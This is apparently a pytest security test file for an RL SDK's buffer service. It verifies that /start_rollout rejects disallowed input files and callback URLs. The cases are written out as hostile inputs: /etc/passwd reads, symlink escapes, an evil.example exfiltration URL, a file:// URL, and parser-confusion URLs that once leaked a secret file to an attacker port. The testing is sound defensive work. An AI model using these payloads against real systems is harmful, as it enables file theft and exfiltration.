"""``/start_rollout`` names a file and URLs its task opens (S15): a slime-style task reads ``input_file``
and writes what it read to ``remote_buffer_url``, so a request naming ``/etc/passwd`` and its own URL
would get the file's lines into its buffer. They reach the task only where the operator allowed them.
Real HTTP on loopback; the task generator is registered in process (``rlsdk.testing.ServedBuffer``)."""

from __future__ import annotations

import time

import httpx
import pytest

from rlsdk import TaskGenerator, get_plugin_manager, hookimpl
from rlsdk.rollout.buffer_service import BufferService, TrajectoryStore
from rlsdk.testing import ServedBuffer


class SlimeStyleTask:
    """Opens what the request names, as slime's tasks do; records the bodies it was started with."""

    started: list[dict] = []

    @hookimpl
    def rlsdk_task_generators(self):
        def run(data):
            SlimeStyleTask.started.append(data)

        yield TaskGenerator(name="reader", func=run)


def start(url: str, **body) -> httpx.Response:
    return httpx.post(url + "/start_rollout", json={"task_type": "reader", **body})


def test_request_named_files_and_urls_reach_the_task_only_where_allowed(tmp_path):
    SlimeStyleTask.started = []
    allowed = tmp_path / "data"
    allowed.mkdir()
    (allowed / "rows.jsonl").write_text("{}\n")
    (tmp_path / "escape").symlink_to("/etc/passwd")
    pm = get_plugin_manager(load_entrypoints=False, plugins=[SlimeStyleTask()])
    service = BufferService(
        pm, TrajectoryStore(tmp_path / "buffer"), input_dirs=[allowed], url_hosts=["trainer.lan"]
    )
    with ServedBuffer(service) as served:
        url = served.url
        for body in [
            {"input_file": "/etc/passwd"},
            {"input_file": str(allowed / ".." / "escape")},
            {"input_file": str(tmp_path / "escape")},
            {"input_file": str(allowed / "rows.jsonl"), "remote_buffer_url": "http://evil.example:80"},
            {"input_file": str(allowed / "rows.jsonl"), "remote_buffer_url": "http://127.0.0.1:1"},
            {"remote_engine_url": "http://evil.example/"},
            {"remote_engine_url": "file:///etc/passwd"},
            {"input_file": 5},
        ]:
            answer = start(url, **body)
            assert answer.status_code == 403, (body, answer.text)
            assert any(w in answer.json()["message"] for w in ("allow", "must be", "not an http")), (
                answer.text
            )
        assert SlimeStyleTask.started == [] and not (tmp_path / "buffer" / "task.json").exists()
        ok = start(
            url,
            input_file=str(allowed / "rows.jsonl"),
            remote_engine_url="http://127.0.0.1:30000",
            remote_buffer_url="http://trainer.lan:8889",
        )
        assert ok.status_code == 200, ok.text


def test_by_default_no_input_file_is_allowed_and_the_buffer_url_is_its_own(tmp_path):
    SlimeStyleTask.started = []
    pm = get_plugin_manager(load_entrypoints=False, plugins=[SlimeStyleTask()])
    service = BufferService(pm, TrajectoryStore(tmp_path / "buffer"))
    with ServedBuffer(service) as served:
        answer = start(served.url, input_file=str(tmp_path / "rows.jsonl"))
        assert answer.status_code == 403 and "--allow-input-dir" in answer.json()["message"]
        assert start(served.url, remote_buffer_url=served.url).status_code == 200


class Eavesdropper:
    """An HTTP server on loopback that records what it is sent (where a tricked task would send a file)."""

    def __init__(self) -> None:
        import http.server
        import threading

        received: list[bytes] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802 (http.server's name)
                received.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self.received = received
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class RequestsTask:
    """A slime-style task posting the input file's lines to ``remote_buffer_url`` with ``requests`` (whose
    URL parser, urllib3's, reads ``\\`` as the end of the host, where Python's ``urlsplit`` does not)."""

    @hookimpl
    def rlsdk_task_generators(self):
        def run(data):
            import requests

            for line in open(data["input_file"]):
                requests.post(data["remote_buffer_url"] + "/buffer/write", data=line, timeout=5)

        yield TaskGenerator(name="poster", func=run)


@pytest.mark.parametrize(
    "trick",
    [
        "http://127.0.0.1:{evil}\\@127.0.0.1:{own}",
        "http://127.0.0.1:{evil}@127.0.0.1:{own}",
        "http://127.0.0.1:{own} @127.0.0.1:{evil}",
        "http://127.0.0.1:{evil}\t@127.0.0.1:{own}",
    ],
)
def test_a_url_that_parsers_read_differently_is_refused(tmp_path, trick):
    """``http://127.0.0.1:EVIL\\@127.0.0.1:OWN`` passed the check (``urlsplit`` reads host 127.0.0.1, port
    OWN) while ``requests`` connected to EVIL: the allowed input file went out there (issue 47: 6)."""
    pytest.importorskip("requests")
    allowed = tmp_path / "data"
    allowed.mkdir()
    (allowed / "secret.jsonl").write_text('{"secret": 1}\n')
    eavesdropper = Eavesdropper()
    pm = get_plugin_manager(load_entrypoints=False, plugins=[RequestsTask()])
    service = BufferService(pm, TrajectoryStore(tmp_path / "buffer"), input_dirs=[allowed])
    try:
        with ServedBuffer(service) as served:
            own = served.url.rsplit(":", 1)[1]
            url = trick.format(evil=eavesdropper.port, own=own)
            answer = httpx.post(
                served.url + "/start_rollout",
                json={
                    "task_type": "poster",
                    "input_file": str(allowed / "secret.jsonl"),
                    "remote_buffer_url": url,
                },
            )
            time.sleep(0.5)  # a task that was started has posted by now
            assert answer.status_code == 403, answer.text
            assert eavesdropper.received == []
    finally:
        eavesdropper.close()


def test_the_task_gets_the_url_as_checked(tmp_path):
    """What the task is handed is the URL rebuilt from what was checked (scheme, host, port, path)."""
    SlimeStyleTask.started = []
    pm = get_plugin_manager(load_entrypoints=False, plugins=[SlimeStyleTask()])
    service = BufferService(pm, TrajectoryStore(tmp_path / "buffer"), url_hosts=["trainer.lan"])
    with ServedBuffer(service) as served:
        ok = start(
            served.url,
            remote_engine_url="HTTP://LocalHost:30000/",
            remote_buffer_url="http://trainer.lan:8889/b",
        )
        assert ok.status_code == 200, ok.text
        for _ in range(50):
            if SlimeStyleTask.started:
                break
            time.sleep(0.05)
    [body] = SlimeStyleTask.started
    assert body["remote_engine_url"] == "http://localhost:30000/"
    assert body["remote_buffer_url"] == "http://trainer.lan:8889/b"
